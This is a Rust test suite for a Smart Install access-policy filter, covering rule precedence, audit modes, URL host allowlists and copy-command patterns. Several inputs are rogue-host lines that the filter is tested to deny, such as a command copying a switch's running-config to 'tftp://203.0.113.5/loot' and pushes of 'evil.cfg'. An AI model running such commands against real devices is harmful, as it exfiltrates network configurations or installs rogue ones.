//! Tests of the Smart Install access policy: precedence, content checks, copy patterns, and the
//! compiled tables against the linear reference on random policies.

use super::*;

use std::net::{Ipv4Addr, Ipv6Addr};

use proptest::prelude::*;

use crate::policy::net::IpNet;

fn nets(entries: &[&str]) -> AddrSet {
    AddrSet(entries.iter().map(|e| e.parse().unwrap()).collect())
}

fn hosts(entries: &[&str]) -> HostSet {
    let mut set = HostSet::default();
    for e in entries {
        set.push_entry(e).unwrap();
    }
    set
}

fn kinds(list: &[MessageKind]) -> KindSet {
    list.iter().fold(KindSet::default(), |set, k| set.with(*k))
}

fn rule(name: &str, action: Action, from: Selector, to: Selector, k: &[MessageKind]) -> AccessRule {
    AccessRule {
        name: name.into(),
        action,
        from: vec![from],
        to: vec![to],
        kinds: kinds(k),
        mode: Mode::Enforce,
    }
}

const DIRECTOR_KINDS: [MessageKind; 4] = [
    MessageKind::Probe,
    MessageKind::ConfigPush,
    MessageKind::CopyCommands,
    MessageKind::ImageUpgrade,
];

fn policy() -> SmartInstallPolicy {
    SmartInstallPolicy {
        directors: nets(&["10.77.1.1", "2001:db8:1::1"]),
        client_networks: nets(&["10.77.2.0/24", "2001:db8:2::/64"]),
        tftp_servers: hosts(&["10.77.1.5", "tftp.example.net"]),
        copy_patterns: vec![
            CopyPattern::new("copy system:running-config tftp://{tftp}/*").unwrap(),
            CopyPattern::new("copy  flash:/config.text   tftp://{tftp}/backups/?*.conf").unwrap(),
        ],
        rules: vec![rule(
            "director",
            Action::Allow,
            Selector::Directors,
            Selector::ClientNetworks,
            &DIRECTOR_KINDS,
        )],
        ..SmartInstallPolicy::default()
    }
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn event<'a>(src: &str, dst: &str, kind: MessageKind) -> SmartInstallEvent<'a> {
    SmartInstallEvent {
        src: ip(src),
        dst: ip(dst),
        kind,
        urls: &[],
        commands: &[],
    }
}

fn decide(p: &SmartInstallPolicy, ev: &SmartInstallEvent<'_>) -> Decision<AccessVerdict> {
    let compiled = p.compile();
    let d = compiled.decide(ev);
    assert_eq!(
        d,
        compiled.decide_linear(ev),
        "compiled and linear disagree"
    );
    d
}

#[test]
fn default_denies_non_director() {
    let d = decide(
        &policy(),
        &event("10.0.0.9", "10.77.2.7", MessageKind::ConfigPush),
    );
    assert_eq!(d.verdict, AccessVerdict::Deny);
    assert_eq!(d.rule.to_string(), "smart_install/default-deny");
    assert_eq!(d.reason, "10.0.0.9 is not a director; rule default-deny");
    let reply = decide(
        &policy(),
        &event("10.77.2.7", "10.77.1.1", MessageKind::ClientReply),
    );
    assert_eq!(
        reply.reason,
        "no rule allows client-reply from 10.77.2.7 to 10.77.1.1; rule default-deny"
    );
}

#[test]
fn allows_director_probe_over_both_families() {
    let p = policy();
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Probe));
    assert_eq!(d.verdict, AccessVerdict::Allow);
    assert_eq!(d.rule.name, "director");
    assert_eq!(
        d.reason,
        "rule director allows probe from 10.77.1.1 to 10.77.2.7"
    );
    let mapped = decide(
        &p,
        &event("::ffff:10.77.1.1", "10.77.2.7", MessageKind::Probe),
    );
    assert_eq!(mapped.verdict, AccessVerdict::Allow);
    let v6 = decide(
        &p,
        &event("2001:db8:1::1", "2001:db8:2::42", MessageKind::Probe),
    );
    assert_eq!(v6.verdict, AccessVerdict::Allow);
    let cross = decide(&p, &event("2001:db8:1::1", "10.77.3.7", MessageKind::Probe));
    assert_eq!(cross.verdict, AccessVerdict::Deny);
}

#[test]
fn deny_overrides_allow_regardless_of_order() {
    let mut p = policy();
    p.rules.push(rule(
        "no-execute",
        Action::Deny,
        Selector::Any,
        Selector::Any,
        &[MessageKind::Execute, MessageKind::Probe],
    ));
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Probe));
    assert_eq!(d.verdict, AccessVerdict::Deny);
    assert_eq!(d.rule.name, "no-execute");
    assert_eq!(d.mode, Mode::Enforce);
}

#[test]
fn enforced_deny_beats_audited_deny_and_first_rule_of_class_decides() {
    let mut p = policy();
    let mut audited = rule(
        "trial",
        Action::Deny,
        Selector::Any,
        Selector::Any,
        &[MessageKind::Probe],
    );
    audited.mode = Mode::Audit;
    p.rules.push(audited);
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Probe));
    assert_eq!(
        (d.verdict, d.rule.name.as_str(), d.mode),
        (AccessVerdict::Deny, "trial", Mode::Audit)
    );
    assert!(d.is_audited());

    p.rules.push(rule(
        "hard-1",
        Action::Deny,
        Selector::Directors,
        Selector::Any,
        &[MessageKind::Probe],
    ));
    p.rules.push(rule(
        "hard-2",
        Action::Deny,
        Selector::Any,
        Selector::Any,
        &[MessageKind::Probe],
    ));
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Probe));
    assert_eq!((d.rule.name.as_str(), d.mode), ("hard-1", Mode::Enforce));
}

#[test]
fn audited_deny_never_lets_through_what_the_default_denies() {
    let mut p = policy();
    let mut audited = rule(
        "no-execute-trial",
        Action::Deny,
        Selector::Any,
        Selector::Any,
        &[MessageKind::Execute],
    );
    audited.mode = Mode::Audit;
    p.rules.push(audited);
    // No allow rule covers execute: the enforced default denies it, as if the audited rule did
    // not exist.
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Execute));
    assert_eq!(
        (d.verdict, d.rule.name.as_str(), d.mode),
        (AccessVerdict::Deny, "default-deny", Mode::Enforce)
    );
    // With the default itself audited, the message is forwarded and the audited rule is named.
    p.default_mode = Mode::Audit;
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Execute));
    assert_eq!(
        (d.verdict, d.rule.name.as_str(), d.mode),
        (AccessVerdict::Deny, "no-execute-trial", Mode::Audit)
    );
}

#[test]
fn unknown_kind_passes_only_when_named() {
    let p = policy();
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Unknown));
    assert_eq!(d.rule.name, "default-deny");
    let mut p = p;
    p.rules.push(rule(
        "odd",
        Action::Allow,
        Selector::Directors,
        Selector::Any,
        &[MessageKind::Unknown],
    ));
    let d = decide(&p, &event("10.77.1.1", "10.77.2.7", MessageKind::Unknown));
    assert_eq!(
        (d.verdict, d.rule.name.as_str()),
        (AccessVerdict::Allow, "odd")
    );
}

#[test]
fn audit_default_mode_forwards_and_records() {
    let p = SmartInstallPolicy {
        default_mode: Mode::Audit,
        ..policy()
    };
    let d = decide(&p, &event("10.0.0.9", "10.77.2.7", MessageKind::Probe));
    assert_eq!((d.verdict, d.mode), (AccessVerdict::Deny, Mode::Audit));
    // An enforced content finding still wins over the audited default.
    let urls = ["tftp://203.0.113.5/evil.cfg"];
    let ev = SmartInstallEvent {
        urls: &urls,
        ..event("10.0.0.9", "10.77.2.7", MessageKind::ConfigPush)
    };
    let d = decide(&p, &ev);
    assert_eq!(
        (d.rule.name.as_str(), d.mode),
        ("url-host-allowlist", Mode::Enforce)
    );
}

#[test]
fn denies_url_to_rogue_tftp_host_even_from_director() {
    let urls = ["tftp://10.77.1.5/ok.cfg", "tftp://203.0.113.5/evil.cfg"];
    let ev = SmartInstallEvent {
        urls: &urls,
        ..event("10.77.1.1", "10.77.2.7", MessageKind::ConfigPush)
    };
    let d = decide(&policy(), &ev);
    assert_eq!(d.verdict, AccessVerdict::Deny);
    assert_eq!(d.rule.name, "url-host-allowlist");
    assert_eq!(d.reason, "tftp host 203.0.113.5 not in tftp_servers");
}

#[test]
fn accepts_allowed_hosts_and_local_files() {
    let urls = [
        "TFTP://TFTP.example.net./c.cfg",
        "flash:/config.text",
        "http://10.77.1.5",
    ];
    let ev = SmartInstallEvent {
        urls: &urls,
        ..event("10.77.1.1", "10.77.2.7", MessageKind::ConfigPush)
    };
    assert_eq!(decide(&policy(), &ev).verdict, AccessVerdict::Allow);
}

#[test]
fn denies_unparseable_url() {
    for bad in ["10.77.1.5:/c.cfg", "tftp:", "tftp://10.77.1.5\\@evil/x", ""] {
        let urls = [bad];
        let ev = SmartInstallEvent {
            urls: &urls,
            ..event("10.77.1.1", "10.77.2.7", MessageKind::ConfigPush)
        };
        let d = decide(&policy(), &ev);
        assert_eq!(
            (d.verdict, d.rule.name.as_str()),
            (AccessVerdict::Deny, "url-unparseable"),
            "{bad}"
        );
    }
}

#[test]
fn denies_copy_command_outside_patterns_even_if_kind_allowed() {
    let commands = ["copy system:running-config flash:/x"];
    let ev = SmartInstallEvent {
        commands: &commands,
        ..event("10.77.1.1", "10.77.2.7", MessageKind::CopyCommands)
    };
    let d = decide(&policy(), &ev);
    assert_eq!(d.rule.name, "copy-command-allowlist");
    assert!(
        d.reason.contains("matches no copy_patterns entry"),
        "{}",
        d.reason
    );

    let good = ["COPY   system:running-config  tftp://10.77.1.5/sw1.cfg "];
    let ev = SmartInstallEvent {
        commands: &good,
        ..ev
    };
    assert_eq!(decide(&policy(), &ev).verdict, AccessVerdict::Allow);
}

#[test]
fn checks_urls_inside_commands() {
    let mut p = policy();
    p.copy_patterns.push(CopyPattern::new("copy * *").unwrap());
    let commands = ["copy system:running-config tftp://203.0.113.5/loot"];
    let ev = SmartInstallEvent {
        commands: &commands,
        ..event("10.77.1.1", "10.77.2.7", MessageKind::CopyCommands)
    };
    let d = decide(&p, &ev);
    assert_eq!(d.rule.name, "url-host-allowlist");
}

#[test]
fn audited_content_check_turns_allow_into_audited_deny() {
    let mut p = policy();
    p.checks.copy_commands = Mode::Audit;
    let commands = ["copy nvram:startup-config tftp://10.77.1.5/x"];
    let ev = SmartInstallEvent {
        commands: &commands,
        ..event("10.77.1.1", "10.77.2.7", MessageKind::CopyCommands)
    };
    let d = decide(&p, &ev);
    assert_eq!(
        (d.verdict, d.rule.name.as_str(), d.mode),
        (AccessVerdict::Deny, "copy-command-allowlist", Mode::Audit)
    );
    // An enforced URL finding later in the message still wins.
    let commands = [
        "copy nvram:startup-config tftp://10.77.1.5/x",
        "copy a tftp://203.0.113.9/y",
    ];
    let ev = SmartInstallEvent {
        commands: &commands,
        ..ev
    };
    let d = decide(&p, &ev);
    assert_eq!(
        (d.rule.name.as_str(), d.mode),
        ("url-host-allowlist", Mode::Enforce)
    );
}

#[test]
fn validates_copy_patterns() {
    assert_eq!(CopyPattern::new("  "), Err(PatternError::Empty));
    assert_eq!(
        CopyPattern::new("copy {host}/x"),
        Err(PatternError::UnknownPlaceholder { offset: 5 })
    );
    assert!(matches!(
        CopyPattern::new(&"a".repeat(MAX_PATTERN_LEN_BYTES + 1)),
        Err(PatternError::TooLong { .. })
    ));
    assert_eq!(
        CopyPattern::new(" copy {TFTP} ").unwrap().source,
        "copy {TFTP}"
    );
}

// === compiled == linear ===

/// A small address universe so that prefixes, boundaries and events collide often.
fn arb_v4() -> impl Strategy<Value = u32> {
    (0u32..4, any::<u8>()).prop_map(|(x, y)| u32::from_be_bytes([10, 0, x as u8, y]))
}

fn arb_v6() -> impl Strategy<Value = u128> {
    (0u128..4, any::<u8>()).prop_map(|(x, y)| 0x2001_0db8_u128 << 96 | x << 8 | u128::from(y))
}

fn arb_net() -> impl Strategy<Value = IpNet> {
    prop_oneof![
        (arb_v4(), prop_oneof![Just(0u8), Just(8), 16u8..=32]).prop_map(|(a, p)| {
            let mask = if p == 0 {
                0
            } else {
                u32::MAX << (32 - u32::from(p))
            };
            IpNet::new(IpAddr::V4(Ipv4Addr::from(a & mask)), p).unwrap()
        }),
        (arb_v6(), prop_oneof![Just(0u8), Just(32), 112u8..=128]).prop_map(|(a, p)| {
            let mask = if p == 0 {
                0
            } else {
                u128::MAX << (128 - u32::from(p))
            };
            IpNet::new(IpAddr::V6(Ipv6Addr::from(a & mask)), p).unwrap()
        }),
    ]
}

fn arb_selector() -> impl Strategy<Value = Selector> {
    prop_oneof![
        1 => Just(Selector::Any),
        1 => Just(Selector::Directors),
        1 => Just(Selector::ClientNetworks),
        1 => Just(Selector::TftpServers),
        4 => proptest::collection::vec(arb_net(), 1..3).prop_map(|n| Selector::Nets(AddrSet(n))),
    ]
}

fn arb_mode() -> impl Strategy<Value = Mode> {
    prop_oneof![3 => Just(Mode::Enforce), 1 => Just(Mode::Audit)]
}

fn arb_rule() -> impl Strategy<Value = AccessRule> {
    (
        proptest::collection::vec(arb_selector(), 1..3),
        proptest::collection::vec(arb_selector(), 1..3),
        any::<u8>(),
        prop_oneof![3 => Just(Action::Allow), 1 => Just(Action::Deny)],
        arb_mode(),
    )
        .prop_map(|(from, to, kinds, action, mode)| AccessRule {
            name: String::new(),
            action,
            from,
            to,
            kinds: KindSet(kinds),
            mode,
        })
}

fn arb_policy() -> impl Strategy<Value = SmartInstallPolicy> {
    let set = || proptest::collection::vec(arb_net(), 0..4).prop_map(AddrSet);
    (
        proptest::collection::vec(arb_rule(), 0..80),
        set(),
        set(),
        set(),
        arb_mode(),
        arb_mode(),
        arb_mode(),
    )
        .prop_map(
            |(mut rules, directors, clients, tftp, default_mode, url_hosts, copy_commands)| {
                for (i, r) in rules.iter_mut().enumerate() {
                    r.name = format!("r{i}");
                }
                SmartInstallPolicy {
                    default_mode,
                    directors,
                    client_networks: clients,
                    tftp_servers: HostSet {
                        nets: tftp,
                        names: vec!["tftp.example.net".into()],
                    },
                    copy_patterns: vec![
                        CopyPattern::new("copy system:running-config tftp://{tftp}/*").unwrap(),
                    ],
                    checks: ContentChecks {
                        url_hosts,
                        copy_commands,
                    },
                    rules,
                }
            },
        )
}

fn arb_addr() -> impl Strategy<Value = IpAddr> {
    prop_oneof![
        arb_v4().prop_map(|a| IpAddr::V4(Ipv4Addr::from(a))),
        arb_v4().prop_map(|a| IpAddr::V6(Ipv4Addr::from(a).to_ipv6_mapped())),
        arb_v6().prop_map(|a| IpAddr::V6(Ipv6Addr::from(a))),
        any::<u32>().prop_map(|a| IpAddr::V4(Ipv4Addr::from(a))),
    ]
}

/// Any address, or one at or just beside a boundary of a prefix the policy names.
fn boundary_addr(policy: &SmartInstallPolicy) -> impl Strategy<Value = IpAddr> + use<> {
    let mut nets: Vec<IpNet> = [
        &policy.directors,
        &policy.client_networks,
        &policy.tftp_servers.nets,
    ]
    .into_iter()
    .flat_map(|set| set.0.iter().copied())
    .collect();
    for rule in &policy.rules {
        for selector in rule.from.iter().chain(&rule.to) {
            if let Selector::Nets(set) = selector {
                nets.extend(set.0.iter().copied());
            }
        }
    }
    let mut edges = vec![IpAddr::V4(Ipv4Addr::new(10, 0, 0, 0))];
    for net in nets {
        let (lo, hi) = net.range();
        for x in [lo.wrapping_sub(1), lo, hi, hi.wrapping_add(1)] {
            edges.push(match net.addr() {
                IpAddr::V4(_) => IpAddr::V4(Ipv4Addr::from(x as u32)),
                IpAddr::V6(_) => IpAddr::V6(Ipv6Addr::from(x)),
            });
        }
    }
    prop_oneof![arb_addr(), proptest::sample::select(edges)]
}

const URL_POOL: [&str; 5] = [
    "tftp://tftp.example.net/a.cfg",
    "tftp://10.0.1.7/a.cfg",
    "tftp://203.0.113.5/a.cfg",
    "flash:/config.text",
    "10.0.0.1:/x",
];

const COMMAND_POOL: [&str; 3] = [
    "copy system:running-config tftp://tftp.example.net/x",
    "copy system:running-config tftp://10.0.0.9/x",
    "copy nvram:startup-config flash:/x",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn compiled_agrees_with_linear((policy, events) in arb_policy().prop_flat_map(|p| {
        let event = (boundary_addr(&p), boundary_addr(&p), 0usize..8,
                     proptest::collection::vec(0usize..5, 0..3),
                     proptest::collection::vec(0usize..3, 0..2));
        (Just(p), proptest::collection::vec(event, 1..40))
    })) {
        let compiled = policy.compile();
        for (src, dst, kind, urls, commands) in events {
            let urls: Vec<&str> = urls.iter().map(|i| URL_POOL[*i]).collect();
            let commands: Vec<&str> = commands.iter().map(|i| COMMAND_POOL[*i]).collect();
            let ev = SmartInstallEvent {
                src,
                dst,
                kind: MessageKind::ALL[kind],
                urls: &urls,
                commands: &commands,
            };
            prop_assert_eq!(compiled.decide(&ev), compiled.decide_linear(&ev));
        }
    }

    #[test]
    fn deny_rule_always_beats_allow(policy in arb_policy(), src in arb_addr(), dst in arb_addr(), kind in 0usize..8) {
        let kind = MessageKind::ALL[kind];
        let mut policy = policy;
        policy.rules.push(AccessRule {
            name: "last-deny".into(),
            action: Action::Deny,
            from: vec![Selector::Any],
            to: vec![Selector::Any],
            kinds: KindSet::default().with(kind),
            mode: Mode::Enforce,
        });
        let d = policy.compile().decide(&SmartInstallEvent { src, dst, kind, urls: &[], commands: &[] });
        prop_assert_eq!(d.verdict, AccessVerdict::Deny);
        prop_assert_eq!(d.mode, Mode::Enforce);
    }
}
